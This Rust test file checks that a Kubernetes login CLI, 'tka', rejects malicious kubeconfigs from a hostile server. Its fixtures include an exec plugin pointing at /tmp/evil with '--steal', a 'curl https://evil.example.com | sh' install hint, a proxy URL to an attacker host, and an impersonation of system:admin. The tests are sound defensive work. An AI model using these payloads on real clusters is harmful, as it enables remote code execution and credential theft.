//! A server that would have this machine run its programs, read its files or call through its proxy.

use serde_json::{Value, json};

use crate::fake_server::{Answer, FakeServer};
use crate::tka::{Outcome, SESSION, User, kubeconfig, login, signed_in};

/// What no file and no output may have.
const EVIL: &str = "/tmp/evil";

/// A kubeconfig whose user has a plugin with these arguments and no token.
fn with_plugin(args: &[&str]) -> Value {
    let mut sent = kubeconfig();
    sent["users"]["tka-user-alice"] = json!({"exec": {
        "apiVersion": "client.authentication.k8s.io/v1", "command": EVIL, "args": args, "interactiveMode": "Never",
        "installHint": "curl https://evil.example.com | sh"
    }});
    sent
}

/// The answer to a sign-in, in which the session is named or is not.
fn answer(kubeconfig: Value, is_named: bool) -> (&'static str, Answer) {
    let mut answer = login();
    if is_named {
        answer = signed_in();
    }
    answer["kubeconfig"] = kubeconfig;
    ("POST /login", Answer::json(200, &answer))
}

/// What becomes of a command, and the kubeconfig that it leaves.
fn run(script: &[(&str, Answer)], arguments: &[&str]) -> (Outcome, Option<String>) {
    let (user, fake) = (User::new(), FakeServer::new(script));
    let outcome = user.run_with(&fake, arguments);
    (outcome, std::fs::read_to_string(user.kubeconfig(&fake)).ok())
}

fn is_refused(outcome: &Outcome, why: &str) {
    assert_eq!(outcome.status, 1, "{outcome:?}");
    assert!(["", "false\n"].contains(&outcome.stdout.as_str()), "{outcome:?}");
    assert!(
        outcome.stderr.contains(why) && !outcome.stderr.contains(EVIL),
        "{outcome:?}"
    );
}

#[test]
fn no_plugin_of_a_server_is_written() {
    let named = || with_plugin(&["credential", "--session", SESSION, "--steal"]);
    for (sent, is_named) in [(named(), false), (named(), true), (with_plugin(&["--steal"]), true)] {
        let (outcome, file) = run(&[answer(sent, is_named)], &["login"]);
        assert_eq!(outcome.status, 0, "{outcome:?}");
        let file = file.unwrap();
        assert!(
            file.contains(env!("CARGO_BIN_EXE_tka")) && file.contains(SESSION),
            "{file}"
        );
        assert!(
            !file.contains(EVIL) && !file.contains("steal") && !file.contains("curl"),
            "{file}"
        );
    }
    for arguments in [&["kubeconfig"][..], &["get", "kubeconfig"]] {
        let script = [
            ("GET /kubeconfig", Answer::json(200, &named())),
            ("GET /sessions", Answer::html(404)),
            ("GET /login", Answer::json(200, &login())),
        ];
        let (outcome, file) = run(&script, arguments);
        assert_eq!(outcome.status, 0, "{outcome:?}");
        let file = file.unwrap();
        assert!(file.contains(SESSION) && !file.contains(EVIL), "{file}");
    }
}

#[test]
fn a_plugin_without_a_session_is_refused() {
    let why = "it names a program for kubectl to run, but no session for tka to request";
    let bare = || with_plugin(&["--steal"]);
    for (arguments, why) in [(&["login"][..], why), (&["login", "--token"], "it holds no token")] {
        let (outcome, file) = run(&[answer(bare(), false)], arguments);
        is_refused(&outcome, why);
        assert_eq!(file, None);
    }
    for (arguments, why) in [
        (&["kubeconfig"][..], why),
        (&["kubeconfig", "--token"], "it holds no token"),
    ] {
        let script = [
            ("GET /kubeconfig", Answer::json(200, &bare())),
            ("GET /sessions", Answer::html(404)),
            ("GET /login", Answer::json(200, &login())),
        ];
        let (outcome, file) = run(&script, arguments);
        is_refused(&outcome, why);
        assert_eq!(file, None);
    }
    let (outcome, _) = run(&[answer(bare(), false)], &["login"]);
    assert!(outcome.stderr.contains("is the server that you mean"), "{outcome:?}");
}

#[test]
fn no_plugin_of_a_server_is_in_a_session_of_its_own() {
    let end = format!("DELETE /sessions/{SESSION}");
    let script = ["exec", "--", "sh", "-c", "cat $KUBECONFIG"];
    for arguments in [&script[..], &["shell", "-c", "cat $KUBECONFIG"]] {
        let ended = (&*end, Answer::json(404, &json!({"message": "over"})));
        let (outcome, _) = run(&[answer(with_plugin(&["--steal"]), true), ended], arguments);
        assert_eq!(outcome.status, 0, "{outcome:?}");
        assert!(
            outcome.stdout.contains(SESSION) && !outcome.stdout.contains(EVIL),
            "{outcome:?}"
        );
    }
    let nothing = ("GET /sessions", Answer::json(200, &json!({"items": []})));
    for arguments in [&script[..], &["shell", "-c", "cat $KUBECONFIG"]] {
        let (outcome, _) = run(&[answer(with_plugin(&["--steal"]), false), nothing.clone()], arguments);
        is_refused(&outcome, "it names a program for kubectl to run");
        let with_token = [&[arguments[0], "--token"], &arguments[1..]].concat();
        let (outcome, _) = run(&[answer(with_plugin(&["--steal"]), true), nothing.clone()], &with_token);
        is_refused(&outcome, "it holds no token");
    }
}

#[test]
fn forbidden_fields_are_refused() {
    for (pointer, field, value) in [
        ("/users/tka-user-alice", "auth-provider", json!({"name": EVIL})),
        ("/users/tka-user-alice", "tokenFile", json!(EVIL)),
        ("/users/tka-user-alice", "client-key", json!(EVIL)),
        ("/users/tka-user-alice", "as", json!("system:admin")),
        ("/clusters/tka-cluster", "certificate-authority", json!(EVIL)),
        ("/clusters/tka-cluster", "proxy-url", json!("http://evil.example.com")),
    ] {
        let mut sent = kubeconfig();
        sent.pointer_mut(pointer).unwrap()[field] = value;
        let why = format!("it sets `{field}`, which a server must not set");
        let fetched = [("GET /kubeconfig", Answer::json(200, &sent))];
        for (script, arguments) in [
            (vec![answer(sent.clone(), true)], &["login"][..]),
            (vec![answer(sent.clone(), true)], &["login", "--token"]),
            (fetched.to_vec(), &["kubeconfig"]),
        ] {
            let (outcome, file) = run(&script, arguments);
            is_refused(&outcome, &why);
            assert_eq!(file, None);
        }
    }
}

/// kubectl, editors and terminals would read a name with such a character as something else.
#[test]
fn a_name_with_a_control_character_is_refused() {
    for wrong in ["\u{85}", "\u{2028}", "\u{7f}", "\n"] {
        let name = format!("tka{wrong}alice");
        let mut sent = kubeconfig();
        sent["contexts"] = json!({name.clone(): {"cluster": "tka-cluster", "user": "tka-user-alice"}});
        sent["current-context"] = json!(name);
        let (outcome, file) = run(&[answer(sent, true)], &["login"]);
        let shown = name.escape_debug();
        is_refused(
            &outcome,
            &format!("the name \"{shown}\" in it has a control character or a line end"),
        );
        assert_eq!(file, None);
    }
}
